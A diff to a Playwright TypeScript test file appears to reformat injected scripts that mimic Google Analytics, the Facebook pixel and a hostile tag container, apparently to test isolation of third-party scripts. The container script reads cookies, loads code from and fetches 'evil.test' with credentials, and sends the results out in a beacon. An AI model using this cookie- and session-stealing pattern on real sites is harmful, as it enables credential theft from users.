@@ -4,7 +4,8 @@ import type { BrowserContext, Request } from '@playwright/test';
 
 const GTAG = `(() => {
   const say = (call) => Object.prototype.toString.call(call) === '[object Arguments]' &&
-    fetch('https://www.google-analytics.com/g/collect?' + new URLSearchParams({ said: JSON.stringify([...call]) }), { mode: 'no-cors' });
+    fetch('https://www.google-analytics.com/g/collect?' +
+      new URLSearchParams({ said: JSON.stringify(Array.from(call)) }), { mode: 'no-cors' });
   const { push } = dataLayer;
   dataLayer.forEach(say);
   dataLayer.push = (...calls) => { calls.forEach(say); return push.apply(dataLayer, calls); };
@@ -12,7 +13,8 @@ const GTAG = `(() => {
 
 const PIXEL = `(() => {
   fbq.callMethod = (...call) => {
-    new Image().src = 'https://www.facebook.com/tr?' + new URLSearchParams({ said: JSON.stringify(call), at: location.href });
+    new Image().src = 'https://www.facebook.com/tr?' +
+      new URLSearchParams({ said: JSON.stringify(call), at: location.href });
   };
   fbq.queue.forEach((call) => fbq.callMethod(...call));
 })()`;
@@ -25,8 +27,12 @@ const CONTAINER = `(async () => {
   const cookie = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie');
   const evil = Object.assign(document.createElement('script'), { src: 'https://evil.test/more.js' });
   document.head.append(evil);
-  document.head.append(Object.assign(document.createElement('script'), { text: 'window.inline = true' }));
-  const fetched = (url) => fetch(url, { credentials: 'include', mode: 'no-cors' }).then(() => 'fetched', (error) => error.name);
+  const inline = document.createElement('script');
+  inline.text = 'window.inline = true';
+  document.head.append(inline);
+  const fetched = (url) =>
+    fetch(url, { credentials: 'include', mode: 'no-cors' })
+      .then(() => 'fetched', (error) => error.name);
   const said = {
     origin: self.origin,
     cookie: got(() => cookie.get.call(document)),
@@ -41,7 +47,8 @@ const CONTAINER = `(async () => {
     api: await fetched('/client_side_api/v1/session'),
     evil: await fetched('https://evil.test/take'),
   };
-  fetch('https://www.google-analytics.com/probe?' + new URLSearchParams({ said: JSON.stringify(said) }), { mode: 'no-cors' });
+  fetch('https://www.google-analytics.com/probe?' +
+    new URLSearchParams({ said: JSON.stringify(said) }), { mode: 'no-cors' });
 })()`;
 
 const SCRIPTS: Record<string, string> = {
